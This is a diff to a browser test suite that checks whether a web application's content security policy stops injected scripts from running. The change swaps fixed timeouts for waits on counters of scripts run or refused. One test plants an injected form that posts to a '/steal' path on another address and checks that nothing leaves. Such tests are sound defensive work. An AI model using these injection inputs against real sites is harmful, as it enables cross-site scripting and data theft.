@@ -204,7 +204,8 @@ def elsewhere():
 def victim(open_page, site, monkeypatch):
     """A page, and ``victim.injected(html)``: /help with ``html`` in it, as if a template had let it through.
 
-    ``policy=False`` takes our content security policy away as well: the control.
+    ``policy=False`` takes our content security policy away as well: the control. What is expected to happen is named
+    by ``until`` and waited for; what must not happen has a moment in which it could.
     """
     make.make_organisation()
     page, real, planted = watched(open_page("/verify")), SecurityHeaders.__call__, {}
@@ -218,10 +219,13 @@ def victim(open_page, site, monkeypatch):
                 del answer["Content-Security-Policy"]
         return answer
 
-    def injected(html, *, policy=True):
+    def injected(html, *, policy=True, until=None):
         planted.update(html=html, policy=policy)
         page.goto("/help")
-        page.wait_for_timeout(300)
+        if until:
+            page.wait_for_function(until)
+        else:
+            page.wait_for_timeout(300)
         return page.evaluate(LOOK)
 
     monkeypatch.setattr(SecurityHeaders, "__call__", call)
@@ -229,20 +233,21 @@ def victim(open_page, site, monkeypatch):
     return page
 
 
+RAN, REFUSED = "window.__ran.length", "window.__refused.length"
 RUNS = (0, 1, 2, 5, 9)  # payloads that run by themselves when they stand between tags
 
 
 @pytest.mark.parametrize("number", RUNS)
 def test_the_control_without_the_policy_the_script_runs(victim, number):
-    assert victim.injected(PAYLOADS[number].format(n=7), policy=False)["ran"]
+    assert victim.injected(PAYLOADS[number].format(n=7), policy=False, until=RAN)["ran"]
 
 
 @pytest.mark.parametrize("number", range(len(PAYLOADS)))
 def test_with_the_policy_no_script_that_got_in_runs(victim, number):
-    found = victim.injected(PAYLOADS[number].format(n=7))
+    # The last of those that run is refused in a frame of its own.
+    found = victim.injected(PAYLOADS[number].format(n=7), until=REFUSED if number in RUNS[:-1] else None)
     assert (found["ran"], victim.dialogs) == ([], [])
-    if number in RUNS[:-1]:  # the last is refused in a frame of its own
-        assert found["refused"]
+    assert found["refused"] or number not in RUNS[:-1]
 
 
 @pytest.mark.parametrize(
@@ -271,7 +276,7 @@ def test_a_form_that_got_in_sends_nothing_elsewhere(victim, elsewhere):
     address, asked = elsewhere
     victim.injected(f"<form action='{address}/steal' id=f method=post><input name=x value=1></form>")
     victim.evaluate("document.getElementById('f').submit()")
-    victim.wait_for_timeout(300)
+    victim.wait_for_function(REFUSED)
     assert asked == []
 
 
